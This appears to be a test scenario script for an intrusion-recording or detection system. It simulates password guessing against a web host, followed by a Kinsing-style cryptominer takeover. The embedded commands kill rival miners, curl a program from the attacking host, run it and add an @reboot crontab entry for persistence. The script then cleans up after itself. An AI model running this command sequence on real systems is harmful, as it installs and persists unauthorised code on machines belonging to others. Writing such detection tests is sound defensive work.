# Thirty-two wrong passwords, each on a connection of its own, then the right one; then rivals are killed, a program fetched, run and kept.
# rules: recording
# format: RAW
# node: web-01
# source: 203.0.113.66
source "$(dirname "${BASH_SOURCE[0]}")/../helpers.sh"
mkdir -p "$work/www"
a_program "$work/www/kinsing"
serves "$work/www" 8000

for round in 1 2 3 4 5 6 7 8; do guess "$source_ip" www "wrong-$round-a" "wrong-$round-b" "wrong-$round-c" "wrong-$round-d"; done
from "$source_ip" www www-Passw0rd 'pkill -9 xmrig; killall kdevtmpfsi
curl -sS -o /tmp/kinsing http://'"$source_ip"':8000/kinsing
chmod +x /tmp/kinsing
/tmp/kinsing
(crontab -l 2>/dev/null; echo "@reboot /tmp/kinsing") | crontab -'
crontab -r -u www || true
rm -f /tmp/kinsing
kill "$server"
